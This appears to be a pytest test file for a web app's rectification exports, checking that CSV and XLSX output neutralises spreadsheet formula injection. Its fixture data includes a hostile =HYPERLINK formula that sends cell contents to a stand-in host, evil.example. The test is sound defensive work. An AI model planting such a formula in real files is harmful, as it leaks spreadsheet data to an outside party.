"""Exports never carry a live formula (OWASP, CSV injection): site names from a CSV import that
start with =, +, -, @ (and stored ones starting with a tab or a carriage return) come out of the
CSV with a leading quote and out of the XLSX as plain text cells, still readable."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from sqlalchemy import update

from inspect_app.models import Site
from inspect_app.sheets import inert
from tests.helpers.app import csrf_token
from tests.helpers.data import findings

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"点我")': "formula",
    "+86 21 5555 0000 商店": "plus",
    "-2+3 小吃": "minus",
    "@SUM(1+1) 文具": "at",
}
STORED = {"\t=1+1 茶馆": "tab", "\r=1+1 面馆": "carriage return"}


def _import(admin, names) -> None:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["kind", "name_zh", "name_en", "address", "team"])
    for n, name in enumerate(names):
        writer.writerow(["shop", name, name, f"梧桐路{700 + n}号", "Team 2"])
    r = admin.post(
        "/sites/import",
        data={"_csrf_token": csrf_token(admin)},
        files={"file": ("sites.csv", buf.getvalue().encode(), "text/csv")},
        follow_redirects=False,
    )
    assert r.status_code == 200 and "import-errors" not in r.text, r.text


@pytest.fixture
def hostile_sites(client, api_token, login_as, world):
    """Imported sites named like formulas, each with one rectification item; two more renamed
    in the database to names an import would have trimmed (leading tab, carriage return)."""
    _import(login_as("admin"), [*HOSTILE, *(f"plain {n}" for n in range(len(STORED)))])
    sites = {name: world.site_named(name) for name in HOSTILE}
    with world.session() as s:
        for n, name in enumerate(STORED):
            s.exec(update(Site).where(Site.name_zh == f"plain {n}").values(name_zh=name))
    sites |= {name: world.site_named(name) for name in STORED}
    for site in sites.values():
        findings(client, api_token, world, site, failed=("F01",))
    return sites


def _export(login_as, fmt: str, sites) -> bytes:
    boss = login_as("supervisor")
    boss.cookies.set("locale", "zh_CN")
    r = boss.get(f"/rectifications/export.{fmt}?status=active")
    assert r.status_code == 200
    return r.content


def test_csv_cells_that_start_a_formula_get_a_leading_quote(login_as, hostile_sites):
    text = _export(login_as, "csv", hostile_sites).decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    for name in [*HOSTILE, *STORED]:
        assert "'" + name in names, name  # the text is all there, behind one quote
        assert name not in names
    assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def _unescaped(value: str) -> str:
    """OOXML writes a control character as _xHHHH_ (Excel shows the character)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def test_xlsx_cells_are_text_never_formulas(login_as, hostile_sites):
    book = openpyxl.load_workbook(io.BytesIO(_export(login_as, "xlsx", hostile_sites)))
    sheet = book.active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # 's': a string, 'f' would be a formula
    values = {_unescaped(cell.value) for cell in cells}
    assert set(HOSTILE) | set(STORED) <= values  # exactly the names, nothing added
    numbers = [row[8] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" for cell in numbers)  # days left stay numbers


def test_inert_leaves_other_values_alone():
    assert inert("梧桐大厦") == "梧桐大厦" and inert(-3) == -3 and inert("") == ""
    assert inert("a=b") == "a=b" and inert("=b") == "'=b" and inert("\r") == "'\r"
